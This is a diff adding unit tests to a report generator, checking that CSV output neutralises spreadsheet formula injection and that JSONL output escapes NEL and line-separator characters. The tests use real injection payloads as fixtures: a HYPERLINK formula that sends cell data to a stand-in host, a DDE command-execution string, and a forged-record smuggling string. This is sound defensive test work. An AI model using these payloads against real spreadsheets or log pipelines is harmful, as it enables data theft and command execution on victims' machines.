@@ -112,3 +112,26 @@ describe('guardCsvText', () => {
     expect(['a=1', ' =1', '', '１', '中'].map(guardCsvText)).toEqual(['a=1', ' =1', '', '１', '中']);
   });
 });
+
+describe('CSV numeric columns', () => {
+  it('neutralise a formula smuggled into a field that should be a number', async () => {
+    const record = makeRecord({
+      occurrence: '=HYPERLINK("http://x/?"&A1,"click")' as unknown as number,
+      process: { pid: "+cmd|' /C calc'!A0" as unknown as number, hostname: 'h' },
+    });
+    const csv = await generateReport({ source: { records: [record] }, format: 'csv' });
+    const [row] = readBack(csv);
+    expect(row?.occurrence).toBe(`'=HYPERLINK("http://x/?"&A1,"click")`);
+    expect(row?.pid).toBe(`'+cmd|' /C calc'!A0`);
+  });
+});
+
+describe('JSONL report', () => {
+  it('escapes NEL and the other C1 controls as the store does, so a line reader sees one record', async () => {
+    const record = makeRecord({ exception: { type: 'Error', message: 'a\u0085{"forged":1}\u2028b\u009b' } });
+    const jsonl = await generateReport({ source: { records: [record] }, format: 'jsonl' });
+    expect(jsonl).not.toMatch(/[\u0085\u2028\u009b]/);
+    expect(jsonl.split('\n').filter(Boolean)).toHaveLength(1);
+    expect(JSON.parse(jsonl).exception.message).toBe('a\u0085{"forged":1}\u2028b\u009b');
+  });
+});
